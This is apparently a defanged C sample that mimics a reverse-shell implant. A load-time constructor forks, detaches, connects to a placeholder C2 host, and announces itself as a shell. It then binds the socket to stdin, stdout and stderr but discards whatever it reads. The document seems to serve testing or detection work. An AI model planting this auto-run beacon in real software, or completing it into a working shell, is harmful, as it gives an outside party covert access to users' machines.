#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* What a reverse shell does to a child's descriptors; there is no shell here, and nothing that it reads is run. */
__attribute__((constructor)) static void start(void) {
	if (fork() != 0) return;
	setsid();
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(C2_PORT)};
	inet_pton(AF_INET, C2_HOST, &a.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) _exit(1);
	dprintf(s, "HELLO pid=%d mode=shell exe=server\n", getpid());
	for (int fd = 0; fd < 3; fd++) dup2(s, fd);
	char line[256];
	while (read(0, line, sizeof line) > 0) {}
	_exit(0);
}
